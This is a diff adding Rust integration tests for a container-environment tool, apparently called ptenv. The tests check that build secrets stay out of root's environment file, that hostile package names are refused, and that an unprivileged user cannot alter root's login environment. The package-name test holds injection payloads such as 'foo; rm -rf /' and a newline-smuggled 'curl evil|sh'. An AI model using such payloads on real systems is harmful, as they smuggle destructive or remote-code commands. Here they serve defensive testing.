@@ -434,6 +434,19 @@ fn the_derived_image_has_the_user_and_packages_and_no_trace_of_the_network_setti
     let fs_out = String::from_utf8_lossy(&fs.stdout);
     assert!(fs_out.contains("No such file"), "{fs_out}");
     assert!(fs_out.trim_end().ends_with("clean"), "{fs_out}");
+    // Root's environment file holds the image's environment, none of the build's args.
+    let env_file = docker_ok(&[
+        "run",
+        "--rm",
+        "--entrypoint",
+        "cat",
+        &image,
+        "/etc/ptenv/environment",
+    ]);
+    assert!(env_file.contains("/opt/conda/bin"), "{env_file}");
+    for secret in ["proxy-marker", "PTENV_CA", "BEGIN CERTIFICATE", "PIP_CERT"] {
+        assert!(!env_file.contains(secret), "{secret} in {env_file}");
+    }
     // A second `up` finds the image and builds nothing.
     p.ptenv(&["down"]).run().assert_success();
     let again = p.ptenv(&["up", "--detach"]).env("SSL_CERT_FILE", &ca).run();
@@ -476,4 +489,88 @@ fn a_failed_build_shows_its_last_lines_and_leaves_nothing() {
         "{out}"
     );
     nothing_left(&p);
+}
+
+#[test]
+fn a_hostile_package_name_is_refused_before_any_build() {
+    for (i, packages) in [
+        "{apt: [\"--allow-unauthenticated\"]}",
+        "{apt: [git, \"foo; rm -rf /\"]}",
+        "{pip: [\"a\\nRUN curl evil|sh\"]}",
+        "{pip: [\"-e git+https://evil.example/x.git\"]}",
+        "{pip: [\"--index-url=http://evil\"]}",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let p = shell_project(
+            &format!("engine-hostile-{i}"),
+            &format!("packages: {packages}\n"),
+        );
+        for args in [&["up", "--dry-run"][..], &["up", "--detach"][..]] {
+            let out = p.ptenv(args).run();
+            out.assert_exit(1);
+            let file = p.path().join("ptenv.yaml");
+            assert!(
+                out.stderr.contains(&format!("ptenv: {}:", file.display())),
+                "{out}"
+            );
+            assert!(out.stderr.contains("is not a"), "{out}");
+            assert!(!out.stderr.contains("Building"), "{out}");
+            assert!(!out.stdout.contains("FROM"), "{out}");
+        }
+        nothing_left(&p);
+    }
+}
+
+#[test]
+fn sudo_false_leaves_no_sudo_and_root_s_environment_file_is_not_the_user_s() {
+    let p = shell_project("engine-no-sudo", "sudo: false\n");
+    p.ptenv(&["up", "--detach"]).run().assert_success();
+    let c = only_container(&p);
+    let id = c["Id"].as_str().unwrap().to_string();
+    p.track_image(c["Config"]["Image"].as_str().unwrap());
+    let exec = |args: &[&str]| p.ptenv(&[&["exec", "--"][..], args].concat()).run();
+    let who = exec(&["id", "-un"]);
+    who.assert_success();
+    assert_eq!(who.stdout, "dev\n", "{who}");
+    let sudo = exec(&["sudo", "-n", "true"]);
+    assert_ne!(sudo.status, 0, "sudo: false, yet sudo works: {sudo}");
+
+    // The file root's login shells read belongs to root and the user cannot change it.
+    let root_file = docker_ok(&[
+        "exec",
+        &id,
+        "stat",
+        "-c",
+        "%u %g %a",
+        "/etc/ptenv/environment",
+    ]);
+    assert_eq!(root_file, "0 0 644");
+    let write = exec(&[
+        "sh",
+        "-c",
+        "echo 'export PTENV_PWNED=1' >> /etc/ptenv/environment",
+    ]);
+    assert_ne!(write.status, 0, "{write}");
+    // What the user writes into their own file stays theirs: root's login shell never reads it.
+    exec(&["sh", "-c", "for f in /etc/ptenv/*environment*; do [ -w \"$f\" ] && echo 'export PTENV_PWNED=1' >> \"$f\"; done; true"])
+        .assert_success();
+    let root_login = docker_ok(&[
+        "exec",
+        "-u",
+        "0",
+        &id,
+        "sh",
+        "-lc",
+        "echo ${PTENV_PWNED:-clean}",
+    ]);
+    assert_eq!(root_login, "clean");
+    // Root's login shells get the image's environment from root's own file.
+    let root_path = docker_ok(&["exec", "-u", "0", &id, "sh", "-lc", "echo $PATH"]);
+    assert!(root_path.contains("/opt/conda/bin"), "{root_path}");
+    // The user's login shells still get the container's environment back.
+    let path = exec(&["sh", "-lc", "echo $PATH"]);
+    path.assert_success();
+    assert!(path.stdout.contains("/opt/conda/bin"), "{path}");
 }
